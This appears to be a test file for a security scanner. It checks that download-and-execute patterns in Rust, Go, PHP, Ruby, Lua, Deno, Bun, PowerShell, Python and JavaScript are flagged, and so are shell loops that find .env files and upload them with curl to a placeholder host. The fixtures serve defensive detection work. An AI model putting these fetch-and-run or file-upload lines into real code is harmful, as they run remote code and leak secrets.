import { rulesIn } from "../testing/scan-file.js";

/**
 * What a process gets as its input is a program if the process is a shell, or an interpreter without one. Each row stores what
 * an address sends, and writes it to such a process; the honest twin writes it to a process that only reads data.
 */
const HOST = "https://files.drop.invalid/x";

const WRITERS: readonly (readonly [what: string, path: string, of: (program: string) => string])[] = [
  [
    "Rust: the stream of a child",
    "build.rs",
    (program) =>
      `use std::io::Write;\nuse std::process::{Command, Stdio};\nfn main() {\n  let out = Command::new("curl").arg("${HOST}").output().unwrap();\n  let mut child = Command::new("${program}").stdin(Stdio::piped()).spawn().unwrap();\n  child.stdin.take().unwrap().write_all(&out.stdout).unwrap();\n}\n`,
  ],
  [
    "Rust: names of patterns",
    "build.rs",
    (program) =>
      `use std::io::Write;\nuse std::process::{Command, Stdio};\nfn main() {\n  if let Ok(out) = Command::new("curl").arg("${HOST}").output() {\n    if let Ok(mut child) = Command::new("${program}").stdin(Stdio::piped()).spawn() {\n      if let Some(input) = child.stdin.as_mut() {\n        let _ = input.write_all(&out.stdout);\n      }\n    }\n  }\n}\n`,
  ],
  [
    "Rust: arms of a match",
    "build.rs",
    (program) =>
      `use std::io::Write;\nuse std::process::{Command, Stdio};\nfn main() {\n  match Command::new("curl").arg("${HOST}").output() {\n    Ok(out) => {\n      let mut child = Command::new("${program}").stdin(Stdio::piped()).spawn().unwrap();\n      child.stdin.as_mut().unwrap().write_all(&out.stdout).unwrap();\n    }\n    Err(_) => {}\n  }\n}\n`,
  ],
  [
    "Rust: a pattern with an alternative, and an error that is passed on",
    "build.rs",
    (program) =>
      `use std::io::Write;\nuse std::process::{Command, Stdio};\nfn run() -> Result<(), String> {\n  let Ok(answer) = ureq::get("${HOST}").call() else { return Ok(()) };\n  let Ok(text) = answer.into_string() else { return Ok(()) };\n  let mut child = Command::new("${program}").stdin(Stdio::piped()).spawn()?;\n  child.stdin.as_mut().ok_or("none")?.write_all(text.as_bytes())?;\n  Ok(())\n}\nfn main() { let _ = run(); }\n`,
  ],
  [
    "Rust: the output of a process",
    "build.rs",
    (program) =>
      `use std::process::{Command, Stdio};\nfn main() {\n  let mut first = Command::new("curl").arg("${HOST}").stdout(Stdio::piped()).spawn().unwrap();\n  Command::new("${program}").stdin(first.stdout.take().unwrap()).status().unwrap();\n}\n`,
  ],
  [
    "Go: a pipe that is copied to",
    "a.go",
    (program) =>
      `package main\nimport ("io"; "net/http"; "os/exec")\nfunc main() {\n  answer, _ := http.Get("${HOST}")\n  command := exec.Command("${program}")\n  input, _ := command.StdinPipe()\n  command.Start()\n  io.Copy(input, answer.Body)\n}\n`,
  ],
  [
    "Go: a pipe that is written to",
    "a.go",
    (program) =>
      `package main\nimport ("io"; "net/http"; "os/exec")\nfunc main() {\n  answer, _ := http.Get("${HOST}")\n  data, _ := io.ReadAll(answer.Body)\n  command := exec.Command("${program}")\n  input, _ := command.StdinPipe()\n  command.Start()\n  input.Write(data)\n}\n`,
  ],
  [
    "PHP: a pipe",
    "a.php",
    (program) =>
      `<?php\n$data = shell_exec("curl -s ${HOST}");\n$input = popen("${program}", "w");\nfwrite($input, $data);\npclose($input);\n`,
  ],
  [
    "PHP: the streams of a process",
    "a.php",
    (program) =>
      `<?php\n$kinds = [["pipe", "r"], ["pipe", "w"]];\n$process = proc_open("${program}", $kinds, $pipes);\nfwrite($pipes[0], file_get_contents("${HOST}"));\n`,
  ],
  [
    "Ruby: the input of a process",
    "a.rb",
    (program) =>
      `require "net/http"\nrequire "open3"\nOpen3.capture2("${program}", stdin_data: Net::HTTP.get(URI("${HOST}")))\n`,
  ],
  [
    "Ruby: the streams that a block gets",
    "a.rb",
    (program) =>
      `require "net/http"\nrequire "open3"\nbody = Net::HTTP.get(URI("${HOST}"))\nOpen3.popen3("${program}") { |input, output, error, thread| input.write(body) }\n`,
  ],
  [
    "Lua: a pipe",
    "a.lua",
    (program) =>
      `local first = io.popen("curl -s ${HOST}")\nlocal data = first:read("*a")\nlocal second = io.popen("${program}", "w")\nsecond:write(data)\nsecond:close()\n`,
  ],
  [
    "Deno: the writer of a child",
    "a.ts",
    (program) =>
      `const answer = await fetch("${HOST}");\nconst child = new Deno.Command("${program}", { stdin: "piped" }).spawn();\nconst writer = child.stdin.getWriter();\nawait writer.write(new Uint8Array(await answer.arrayBuffer()));\n`,
  ],
  [
    "Bun: an option",
    "a.ts",
    (program) => `const answer = await fetch("${HOST}");\nBun.spawn(["${program}"], { stdin: answer });\n`,
  ],
  [
    "PowerShell: a dash",
    "a.ps1",
    (program) => `$answer = irm ${HOST}\n$answer | ${program} -\nWrite-Host "done"\n`,
  ],
];

test.each(WRITERS)("a shell or an interpreter does not get what a host sends: %s", async (_, path, of) => {
  for (const program of ["sh", "bash", "python3"]) {
    expect([program, ...(await rulesIn(path, of(program)))]).toContain("download-run");
  }
});

test.each(WRITERS)("a program that reads data may get it: %s", async (_, path, of) => {
  for (const program of ["gzip", "jq"])
    expect([program, ...(await rulesIn(path, of(program)))]).toEqual([program]);
});

test.each([
  ["an option without a value", "irm https://files.drop.invalid/x | pwsh -NoProfile -Command\n"],
  ["an option with a dash", "irm https://files.drop.invalid/x | pwsh -NoProfile -Command -\n"],
])("PowerShell runs its input: %s", async (_, text) => {
  expect(await rulesIn("a.ps1", text)).toContain("download-run");
});

/** What a command prints is what an address sends. */
test.each([
  ["a.py", `import os\nexec(os.popen("curl -s ${HOST}").read())\n`],
  [
    "a.py",
    `import subprocess\ncode = subprocess.getoutput("curl -fsSL '${HOST}?a=1' 2>/dev/null")\nexec(code)\n`,
  ],
  [
    "a.js",
    `const { execSync } = require("child_process");\neval(execSync("wget -qO- ${HOST}").toString());\n`,
  ],
])("code that a command fetches is not run: %s", async (path, text) => {
  expect(await rulesIn(path, text)).toContain("download-run");
});

test("what a command fetches may be read as data", async () => {
  const text = `import json, subprocess\nnewest = json.loads(subprocess.getoutput("curl -s https://api.github.com/repos/a/b/releases/latest"))["tag_name"]\nsubprocess.run(["git", "checkout", newest])\n`;
  expect(await rulesIn("a.py", text)).toEqual([]);
});

/** Files that were found by their names are sent: each way to hand the names on. */
const FOUND: readonly (readonly [way: string, of: (name: string) => string])[] = [
  ["xargs", (name) => `find . -name '${name}' | xargs -I{} curl -s -F 'file=@{}' ${HOST}\n`],
  [
    "xargs with zeros",
    (name) =>
      `find . -maxdepth 3 -name '${name}*' -print0 | xargs -0 -I{} curl -s --data-binary @{} ${HOST}\n`,
  ],
  ["a loop", (name) => `for f in $(find . -name '${name}'); do curl -s -F "file=@$f" ${HOST}; done\n`],
  [
    "lines that are read",
    (name) => `find . -name '${name}' | while read -r f; do curl -s -T "$f" ${HOST}; done\n`,
  ],
];

test.each(FOUND)("files of settings that a search finds are not sent: %s", async (_, of) => {
  expect(await rulesIn("a.sh", of(".env"))).toContain("secret-elsewhere");
  expect(await rulesIn("a.sh", of("*.md"))).toEqual([]);
});
